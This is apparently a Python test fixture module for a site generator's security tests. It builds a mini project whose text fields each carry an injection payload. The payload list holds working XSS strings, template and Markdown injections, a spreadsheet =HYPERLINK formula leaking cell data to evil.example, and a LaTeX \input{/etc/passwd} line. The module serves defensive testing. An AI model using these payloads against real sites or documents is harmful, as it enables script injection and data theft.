"""Hostile payloads, and a mini project whose every free-text field carries one of them.

Shared by tests/test_hostile.py (validator, renderer, site HTML) and the browser test in it.
Every script payload sets ``window.__pwned`` and every request payload names
``evil.example``, so a payload that runs or loads anything is seen.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from collections import Counter
from dataclasses import dataclass, field
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

from conftest import MINI, ROOT, with_theme_overrides

PAYLOADS: list[str] = [
    # HTML and script tags, event-handler attributes
    "<script>window.__pwned=1</script>",
    "</title><script>window.__pwned=1</script>",
    "<img src=x onerror=\"window.__pwned=1\">",
    "<svg onload=window.__pwned=1>",
    "<img src=x onerror=alert(document.domain)><script>confirm(1)</script>",
    "\"><script>window.__pwned=1</script>",
    "' onmouseover='window.__pwned=1' x='",
    "<details open ontoggle=window.__pwned=1>",
    "<body onload=window.__pwned=1>",
    "<style>body{display:none}</style>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<form action=https://evil.example/><button>go</button></form>",
    "</p></blockquote></td></table><script>window.__pwned=1</script>",
    "<div markdown=\"1\">**bold** <script>window.__pwned=1</script></div>",
    "<math><mi xlink:href=\"javascript:window.__pwned=1\">x</mi></math>",
    # javascript: and data: URLs
    "javascript:window.__pwned=1",
    "<a href=\"javascript:window.__pwned=1\">click</a>",
    "<object data=\"data:text/html,<script>parent.__pwned=1</script>\"></object>",
    # Markdown link, image, autolink, reference syntax
    "[click](javascript:window.__pwned=1)",
    "![x](https://evil.example/x.png)",
    "![x](data:image/svg+xml,<svg onload=window.__pwned=1>)",
    "<https://evil.example/>",
    "[ref]: https://evil.example/ \"title\"",
    "[click][ref] [^1] [[wiki]]",
    # attribute lists, HTML comments, template syntax
    "{: onclick=\"window.__pwned=1\" }",
    "heading {: #injected .evil onmouseover=\"window.__pwned=1\" }",
    "<!-- hidden --> <!-- unclosed",
    "{{ 7*7 }} {% if true %}x{% endif %} {# note #} ${7*7} #{7*7}",
    # Markdown block syntax and extensions
    "# heading",
    "> quoted",
    "- item",
    "1. first",
    "---",
    "    indented code",
    "!!! danger \"Admonition\"",
    "| a | b |",
    "*emph* **strong** `code` ~~del~~ ==mark== ^^ins^^ H~2~O :smile:",
    "\\*escaped\\* \\<b\\> \\\\",
    # entities and odd characters
    "&lt;script&gt; &amp; &#x3C;script&#x3E; &#60;",
    # markup a consumer decodes once before inserting it as HTML (TimelineJS's group and display_date)
    "&lt;img src=x onerror=alert(document.domain)&gt;",
    "&lt;img src=x onerror=window.__pwned=1&gt; &#60;svg onload=window.__pwned=1&#62;",
    # spreadsheet formulas, also behind a separator of another CSV dialect, and LaTeX's specials
    "Title;=1+2;",
    "Gazette\t=3+4\tend",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\");-1+2,@SUM(A1);\"=3+4\"; '\uff1d5",
    "\\input{/etc/passwd} \\def\\x{y} } { 100% $x$ #1 a_b ~ ^ -- `` '' !` ?`",
    "caf\u00e9 zero\u200bwidth non\u00a0breaking",  # bidi controls are refused (text-bidi-control)
]


def normalize(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


# Every free-text field of every entry kind, as (kind, dotted name).
SOURCE_FIELDS = [
    "title", "title_basis", "outlet.name", "outlet.note", "outlet.basis", "outlet.original.name",
    "outlet.original.note",
    "authors[0]", "authors[1]", "authors_note", "published.basis", "summary", "summary.p2",
    "key_points[0]", "quotes[0].text", "quotes[0].speaker_note", "quotes[0].said.basis",
    "quotes[0].via.note", "quotes[0].context", "quotes[1].text", "quotes[1].speaker_note",
    "actors[0].role", "events[0].title", "events[0].place", "events[0].note", "events[0].when.basis",
    "capture_notes[0]",
]
ACTOR_FIELDS = ["name", "aliases[0]", "country", "description", "roles[0].title", "roles[0].note"]
TOPIC_FIELDS = ["name", "description"]
FIELDS = ([("source", f) for f in SOURCE_FIELDS] + [("actor", f) for f in ACTOR_FIELDS]
          + [("topic", f) for f in TOPIC_FIELDS])
# Fields no page shows (yet); test_hostile checks they really are absent, so this list stays true.
# Fields the pages do not show (none now: a quote's date basis and an event's note are the evidence
# the source page shows a click away).
NOT_SHOWN: set[tuple[str, str]] = set()
# A URL the validator accepts (http, a host, no spaces) but full of HTML: it must stay one inert href.
HOSTILE_URL = "https://example.org/?q=<script>x</script>&a=\"b'onmouseover='y'><img/src=x>"
# Addresses the validator accepts (http(s), a host, no white space) with each character some output
# treats specially: LaTeX's and BibTeX's specials, braces that pair and braces that do not, backslashes.
HOSTILE_URLS = [
    HOSTILE_URL,
    "https://example.org/a_b%20c#frag~x^y$z&q=1",
    "https://example.org/{a}/{{b}c}?d={e}",
    "https://example.org/}{",
    "https://example.org/a\\{b}",
    "https://example.org/end\\",
    "https://example.org/?=1+2;=3+4,@x\"",
    "https://example.org/%}\\%{",
]


def tag(index: int, kind: str, field: str) -> str:
    """The marker that follows a payload, so each (payload, field) can be found on its own."""
    return f"Zq{index}{kind[0]}{FIELDS.index((kind, field))}q"


def value(payload: str, index: int, kind: str, field: str) -> str:
    return f"{payload} {tag(index, kind, field)}"


def entries_for(index: int, payload: str) -> dict[str, dict]:
    """A source, an actor and a topic whose every free-text field carries ``payload``."""
    def s(field: str) -> str:
        return value(payload, index, "source", field)

    def a(field: str) -> str:
        return value(payload, index, "actor", field)

    def t(field: str) -> str:
        return value(payload, index, "topic", field)

    sid, aid, tid = f"payload-{index}", f"payload-actor-{index}", f"payload-topic-{index}"
    day = {"date": "2021-05-04", "precision": "day", "inferred": True}
    source = {
        "id": sid, "status": "draft", "title": s("title"), "title_basis": s("title_basis"),
        "outlet": {"name": s("outlet.name"), "kind": "newspaper", "note": s("outlet.note"), "inferred": True,
                   "basis": s("outlet.basis"),
                   "original": {"name": s("outlet.original.name"), "kind": "blog", "note": s("outlet.original.note")}},
        "authors": [s("authors[0]"), s("authors[1]")], "authors_note": s("authors_note"),
        "published": {**day, "basis": s("published.basis")},
        "url": HOSTILE_URL,
        "archive": {"file": "payloads.txt", "sha256": "filled in by write_payload_project"},
        "summary": s("summary") + "\n\n" + s("summary.p2"),
        "key_points": [s("key_points[0]")],
        "quotes": [
            # direct speech is a statement of some words, whatever the payload is
            {"id": "q1", "text": "We said this in full: " + s("quotes[0].text"), "speaker": aid, "kind": "direct",
             "speaker_note": s("quotes[0].speaker_note"), "said": {**day, "basis": s("quotes[0].said.basis")},
             "via": {"kind": "interview", "note": s("quotes[0].via.note")}, "context": s("quotes[0].context"),
             "topics": [tid]},
            {"id": "q2", "text": s("quotes[1].text"), "speaker": "unknown",
             "speaker_note": s("quotes[1].speaker_note"), "kind": "fragment",
             "via": {"kind": "news-agency", "actor": aid}},
        ],
        "actors": [{"id": aid, "role": s("actors[0].role")}],
        "topics": [tid],
        "events": [{"id": "e1", "when": {**day, "basis": s("events[0].when.basis")}, "title": s("events[0].title"),
                    "kind": "meeting", "actors": [aid], "place": s("events[0].place"), "topics": [tid],
                    "note": s("events[0].note")}],
        "capture_notes": [s("capture_notes[0]")],
    }
    actor = {"id": aid, "name": a("name"), "kind": "person", "aliases": [a("aliases[0]")], "country": a("country"),
             "description": a("description"),
             "roles": [{"title": a("roles[0].title"), "since": "2020", "until": "2021", "sources": [sid],
                        "note": a("roles[0].note")}]}
    topic = {"id": tid, "name": t("name"), "description": t("description")}
    return {f"sources/{sid}.yml": source, f"actors/{aid}.yml": actor, f"topics/{tid}.yml": topic}


def write_payload_project(target: Path, payloads: list[str]) -> Path:
    """The mini project plus one source, actor and topic per payload (JSON is YAML too)."""
    shutil.copytree(MINI, target)
    if (ROOT / "overrides").is_dir():  # the real site's theme overrides (JSON-LD in every head)
        with_theme_overrides(target, copy_from=ROOT / "overrides")
    files: dict[str, dict] = {}
    for index, payload in enumerate(payloads):
        files.update(entries_for(index, payload))
    quotes = [q["text"] for data in files.values() for q in data.get("quotes", [])]
    document = ("Archived payload document.\n\n" + "\n\n".join(quotes) + "\n").encode("utf-8")
    (target / "archive" / "payloads.txt").write_bytes(document)
    digest = hashlib.sha256(document).hexdigest()
    for rel, data in files.items():
        if "archive" in data:
            data["archive"]["sha256"] = digest
        (target / "entries" / rel).write_text(json.dumps(data, ensure_ascii=False, indent=2) + "\n", "utf-8")
    return target


# --- watching a browser page ----------------------------------------------------------------------


@dataclass
class Watched:
    """What a page did that a payload could make it do: dialogs, requests to any host but the
    test's server, uncaught errors."""

    dialogs: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)


def watch(page, local: str) -> Watched:
    seen = Watched()
    page.on("dialog", lambda d: (seen.dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: seen.foreign.append(r.url)
            if not r.url.startswith((local, "data:", "blob:", "about:")) else None)
    page.on("pageerror", lambda e: seen.errors.append(str(e)))
    return seen


# --- reading the built HTML ------------------------------------------------------------------------


class PageShape(HTMLParser):
    """What a page is made of: its elements with their attribute names, and the text a reader sees."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: Counter[tuple[str, tuple[str, ...]]] = Counter()
        self.attributes: list[tuple[str, str, str]] = []
        self.chunks: list[str] = []
        self.title = ""
        self._skip = 0
        self._in_title = False

    def handle_starttag(self, tag, attrs):
        self.elements[(tag, tuple(sorted(name for name, _ in attrs)))] += 1
        self.attributes.extend((tag, name, value or "") for name, value in attrs)
        if tag in ("script", "style"):
            self._skip += 1
        if tag == "title":
            self._in_title = True

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag in ("script", "style"):
            self._skip -= 1

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self._skip = max(0, self._skip - 1)
        if tag == "title":
            self._in_title = False

    def handle_data(self, data):
        if self._in_title:
            self.title += data
        elif not self._skip:
            self.chunks.append(data)

    def handle_comment(self, data):
        self.elements[("<!--", ())] += 1

    @property
    def text(self) -> str:
        return normalize("".join(self.chunks))


_TITLE = re.compile(r"<title>(.*?)</title(?:[\t\n\f /][^>]*)?>", re.S | re.I)


def shape(html: str) -> PageShape:
    """Parse as a browser does where Python's parser does not: <title> holds text only (RCDATA),
    up to the first "</title", whatever that text looks like."""
    parser = PageShape()
    found = _TITLE.search(html)
    if found:
        parser.title = unescape(found.group(1))
        parser.elements[("title", ())] += 1
        html = html[:found.start()] + html[found.end():]
    parser.feed(html)
    parser.close()
    return parser
